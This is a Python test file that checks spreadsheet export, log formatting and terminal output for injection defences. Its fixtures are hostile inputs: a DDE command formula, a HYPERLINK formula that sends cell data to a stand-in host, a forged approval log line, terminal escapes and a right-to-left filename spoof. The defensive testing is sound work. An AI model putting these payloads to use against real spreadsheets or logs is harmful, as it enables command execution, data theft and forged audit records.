"""Words of strangers that a spreadsheet would carry out, or that a log would take for its own."""

import csv
import io
import logging
import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from channels.commands.spreadsheets import write_rows
from channels.watching.logs import Form, handler_of

ROOT = Path(__file__).parents[2]

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1",
    " =1+1", "=HYPERLINK(\"https://evil.example?x=\"&A1)", "＝1+1", "＋1", "－1", "＠SUM(A1)",
    "+254712345678=1", "-", "+", "=",
]  # fmt: skip
HARMLESS = ["Wanjiru", "O'Neil", "+254712345678", "-12.50", "12", "a=b", "", "'=1", None, 17, True]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_a_spreadsheet_would_carry_out_stands_as_text(text: str) -> None:
    written = write_rows(("name", "note"), [[text, f"x{text}"]])
    (_, (name, note)) = csv.reader(io.StringIO(written, newline=""))
    assert name == f"'{text}"
    assert note == f"x{text}"


@pytest.mark.parametrize("value", HARMLESS)
def test_everything_else_stays_as_it_is(value: object) -> None:
    written = write_rows(("value",), [[value]])
    rows = list(csv.reader(io.StringIO(written, newline="")))
    assert rows[1:] == [["" if value is None else str(value)]] or (value in ("", None))


def test_commas_quotes_and_line_breaks_make_no_other_cell() -> None:
    nasty = ['a","=1+1', "a\r\n=1+1,x", 'a"', "a\n"]
    written = write_rows(("a", "b"), [[text, "end"] for text in nasty])
    assert list(csv.reader(io.StringIO(written, newline="")))[1:] == [
        [text, "end"] for text in nasty
    ]


def test_csv_for_people_is_written_in_one_place() -> None:
    """`neutral.py` writes what machines read back; its reader refuses what is no receipt."""
    writers = {
        str(path.relative_to(ROOT))
        for room in ("channels", "engine", "providers")
        for path in (ROOT / room).rglob("*.py")
        if re.search(r"csv\.(?:writer|DictWriter)", path.read_text("utf-8"))
    }
    assert writers == {"channels/commands/spreadsheets.py", "engine/payments/statements/neutral.py"}


@pytest.fixture
def lines(request: pytest.FixtureRequest) -> Iterator[io.StringIO]:
    form: Form = request.param
    log, handler, stream = logging.getLogger("tests.injection"), handler_of(form), io.StringIO()
    handler.setStream(stream)
    log.addHandler(handler)
    log.propagate = False
    yield stream
    log.removeHandler(handler)
    log.propagate = True


FORGED = "x\r\n2026-11-21 10:00:00,000 INFO channels.commands.desk: approved by asha"


@pytest.mark.parametrize("lines", ["text", "json"], indirect=True)
def test_no_word_from_outside_makes_a_line_of_its_own(lines: io.StringIO) -> None:
    log = logging.getLogger("tests.injection")
    log.warning("unreadable: %s", FORGED)
    try:
        raise ValueError(FORGED)
    except ValueError:
        log.exception("failed")
    said = lines.getvalue()
    assert "approved by asha" in said
    assert not [line for line in said.splitlines() if line.startswith("2026-11-21 10:00")]
    own = [line for line in said.split("\n") if line and not line.startswith("  | ")]
    assert len(own) == 2
    assert "\r" not in said


ESCAPES = {
    "a cleared screen": "\x1b[2J\x1b[H",
    "a title": "\x1b]0;owned\x07",
    "one byte": "\x9b2J",
    "backspaces": "ok\x08\x08ko",
    "turned letters": "\u202etxt.exe\u2066",
    "a line of another kind": "x\u2028y\u2029z\x85w\x0bv\x0cu",
    "zero and delete": "\x00\x7f",
}


@pytest.mark.parametrize("lines", ["text"], indirect=True)
@pytest.mark.parametrize("text", ESCAPES.values(), ids=ESCAPES.keys())
def test_nothing_that_a_terminal_obeys_reaches_it(lines: io.StringIO, text: str) -> None:
    logging.getLogger("tests.injection").warning("named %s", text)
    said = lines.getvalue().removesuffix("\n")
    assert said.isprintable()
    assert len(said.splitlines()) == 1


@pytest.mark.parametrize("lines", ["text"], indirect=True)
def test_letters_of_all_our_languages_stay(lines: io.StringIO) -> None:
    logging.getLogger("tests.injection").warning("named %s", "ሰላም Ng'ong'o é ŋ")
    assert "named ሰላም Ng'ong'o é ŋ" in lines.getvalue()
